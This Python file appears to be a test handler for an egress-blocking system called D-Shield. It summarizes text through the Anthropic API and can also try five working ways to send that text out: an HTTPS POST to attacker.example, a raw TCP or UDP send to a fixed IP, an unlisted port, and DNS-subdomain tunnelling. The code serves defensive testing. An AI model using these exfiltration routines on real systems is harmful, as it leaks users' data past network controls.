"""Summarizes a text with the Anthropic API, or, when asked to, tries to carry it off elsewhere.

Nothing here knows of D-Shield: it is what anyone would write with Python's standard library.
"""

import json
import os
import socket
import time
import urllib.error
import urllib.request

API = "https://api.anthropic.com/v1/messages"


def handler(event, context):
    """{"text": …} gives a summary; "stream": true asks for it word by word; "leak": … tries to leak it."""
    if "leak" in event:
        return LEAKS[event["leak"]](event)
    return summarize(event["text"], event.get("stream", False))


def summarize(text, stream=False, url=API):
    body = {
        "model": os.environ.get("MODEL", "claude-sonnet-4-20250514"),
        "max_tokens": 256,
        "stream": stream,
        "messages": [{"role": "user", "content": "Summarize in one sentence: " + text}],
    }
    headers = {
        "content-type": "application/json",
        "x-api-key": os.environ["ANTHROPIC_API_KEY"],
        "anthropic-version": "2023-06-01",
    }
    request = urllib.request.Request(url, json.dumps(body).encode(), headers)
    with urllib.request.urlopen(request, timeout=60) as response:
        if stream:
            return read_stream(response)
        message = json.load(response)
        return {"summary": "".join(block["text"] for block in message["content"])}


def read_stream(response):
    """Reads server-sent events as they come, and notes when each word came."""
    began, words, arrived_ms = time.monotonic(), [], []
    for line in response:
        if not line.startswith(b"data: "):
            continue
        event = json.loads(line[len(b"data: "):])
        if event["type"] == "content_block_delta":
            words.append(event["delta"]["text"])
            arrived_ms.append(round((time.monotonic() - began) * 1000))
    return {"summary": "".join(words), "arrived_ms": arrived_ms}


def attempt(what, action):
    """Runs one leak and tells as data what became of it."""
    try:
        return {"tried": what, "sent": True, "happened": action()}
    except urllib.error.HTTPError as error:
        return {"tried": what, "sent": False, "happened": f"HTTP {error.code}: {error.read().decode(errors='replace')}"}
    except OSError as error:
        return {"tried": what, "sent": False, "happened": f"{type(error).__name__}: {error}"}


def leak_to_host(event):
    """An ordinary HTTPS request to a host of the attacker's."""
    url = "https://attacker.example/collect"
    return attempt(f"POST {url}", lambda: urllib.request.urlopen(url, event["text"].encode(), timeout=10).status)


def leak_to_ip(event):
    """A bare TCP connection to an address, no name involved."""
    host, port = event.get("to", "203.0.113.7:443").rsplit(":", 1)

    def send():
        with socket.create_connection((host, int(port)), timeout=10) as stream:
            stream.sendall(event["text"].encode())
            answer = stream.recv(1024)
            if not answer:
                raise ConnectionError("closed without an answer")
            return answer.decode(errors="replace")

    return attempt(f"TCP to {host}:{port}", send)


def leak_to_port(event):
    """The allowed host, but a port that no rule names."""
    url = "https://api.anthropic.com:8443/v1/messages"
    return attempt(f"POST {url}", lambda: summarize(event["text"], url=url))


def leak_by_dns(event):
    """The text itself as a name to look up: the attacker runs the name server."""
    name = event["text"].encode()[:30].hex() + ".attacker.example"
    return attempt(f"lookup of {name}", lambda: socket.getaddrinfo(name, 443)[0][4][0])


def leak_by_udp(event):
    """One datagram."""
    host, port = event.get("to", "203.0.113.7:9999").rsplit(":", 1)

    def send():
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
            return f"{sender.sendto(event['text'].encode(), (host, int(port)))} bytes"

    return attempt(f"UDP to {host}:{port}", send)


LEAKS = {
    "host": leak_to_host,
    "ip": leak_to_ip,
    "port": leak_to_port,
    "dns": leak_by_dns,
    "udp": leak_by_udp,
}
